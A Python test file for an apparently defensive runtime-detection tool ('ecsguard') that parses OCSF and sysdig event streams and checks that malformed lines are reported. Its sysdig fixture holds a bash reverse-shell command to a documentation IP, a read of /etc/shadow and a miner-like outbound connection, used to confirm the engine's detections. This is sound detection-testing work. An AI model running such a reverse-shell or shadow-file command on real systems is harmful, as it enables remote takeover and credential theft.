"""Event sources: OCSF JSON lines and sysdig -j output, bad lines reported with their place."""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest

from ecsguard.errors import InputError, UsageError
from ecsguard.runtime import load_engine
from ecsguard.sources import SOURCES, open_source, split_spec
from ecsguard.sources.base import EventSource
from ecsguard.sources.file import FileSource


def test_registry_and_specs() -> None:
    assert split_spec("-") == ("file", "-")
    assert split_spec("file:/x.jsonl") == ("file", "/x.jsonl")
    assert split_spec("sysdig:cap.json") == ("sysdig", "cap.json")
    assert split_spec("nats://127.0.0.1:4222") == ("nats", "nats://127.0.0.1:4222")
    assert split_spec("plain.jsonl") == ("file", "plain.jsonl")
    assert SOURCES["nats"] == "ecsguard.sources.nats:NatsSource"
    assert isinstance(open_source("file:/dev/null"), EventSource)
    with pytest.raises(UsageError):
        open_source("nope://x")


def test_bad_lines_are_reported_and_the_stream_goes_on(tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    good = orjson.dumps({"class_uid": 1001, "activity_id": 14, "file": {"path": "/etc/hosts"}})
    path.write_bytes(
        b"\n".join(
            [
                good,
                b"{broken",
                b"[1, 2, 3]",
                b"\xff\xfeinvalid utf8\xc3",
                b'{"class_uid": "x"}',
                b'{"pad": "' + b"a" * (10 * 1024 * 1024) + b'"}',
                b"",
                good,
            ]
        )
        + b"\n"
    )
    deliveries = list(FileSource(f"file:{path}").deliveries())
    errors = [(d.origin, d.error) for d in deliveries if d.event is None]
    assert [o for o, _ in errors] == [f"{path}:2", f"{path}:3", f"{path}:4", f"{path}:6"]
    assert "longer than" in str(errors[3][1]) and "expected a JSON object" in str(errors[1][1])
    events = [d.event for d in deliveries if d.event is not None]
    assert len(events) == 3 and events[-1] == orjson.loads(good)


def test_missing_file_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError):
        list(open_source(f"file:{tmp_path / 'missing.jsonl'}").deliveries())


SYSDIG = [
    {
        "evt.cpu": 1,
        "evt.dir": ">",
        "evt.info": "filename=/bin/bash",
        "evt.num": 10,
        "evt.outputtime": 1700000000000000000,
        "evt.type": "execve",
        "proc.name": "sh",
        "thread.tid": 300,
    },
    {
        "evt.cpu": 1,
        "evt.dir": "<",
        "evt.info": "res=0 exe=bash args=-i. tid=301(bash) pid=301(bash) ptid=300(java)",
        "evt.num": 11,
        "evt.outputtime": 1700000000000100000,
        "evt.type": "execve",
        "proc.name": "bash",
        "thread.tid": 301,
        "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "proc.pname": "java",
        "container.id": "3c1d9e8f7a6b",
    },
    {
        "evt.cpu": 0,
        "evt.dir": "<",
        "evt.info": "fd=5(<f>/etc/shadow) dirfd=-100(AT_FDCWD) name=/etc/shadow flags=1(O_RDONLY) mode=0 dev=803",
        "evt.num": 12,
        "evt.outputtime": 1700000000000200000,
        "evt.type": "openat",
        "proc.name": "cat",
        "thread.tid": 302,
    },
    {
        "evt.cpu": 0,
        "evt.dir": "<",
        "evt.info": "res=0 tuple=172.17.0.2:43210->198.51.100.9:3333",
        "evt.num": 13,
        "evt.outputtime": 1700000000000300000,
        "evt.type": "connect",
        "proc.name": "kworkerds",
        "thread.tid": 303,
    },
    {
        "evt.cpu": 0,
        "evt.dir": "<",
        "evt.info": "res=8",
        "evt.num": 14,
        "evt.outputtime": 1700000000000400000,
        "evt.type": "read",
        "proc.name": "cat",
        "thread.tid": 302,
    },
]


def test_sysdig_json_becomes_ocsf_and_detects(tmp_path: Path) -> None:
    path = tmp_path / "capture.json"
    path.write_bytes(b"\n".join(orjson.dumps(x) for x in SYSDIG) + b"\nnot json\n")
    deliveries = list(open_source(f"sysdig:{path}").deliveries())
    events = [d.event for d in deliveries if d.event is not None]
    assert [e["class_uid"] for e in events] == [1007, 1001, 4001]
    assert [d.origin for d in deliveries if d.event is None] == [f"{path}:6"]
    assert events[1]["file"]["path"] == "/etc/shadow" and events[2]["dst_endpoint"] == {
        "ip": "198.51.100.9",
        "port": 3333,
    }
    engine = load_engine(window_ms=0)
    found = {a.finding_type for e in events for a in engine.process(e)}
    assert found == {
        "Execution:Runtime/ReverseShell",
        "Discovery:Runtime/SuspiciousCommand",
        "CryptoCurrency:Runtime/BitcoinTool.B",
    }
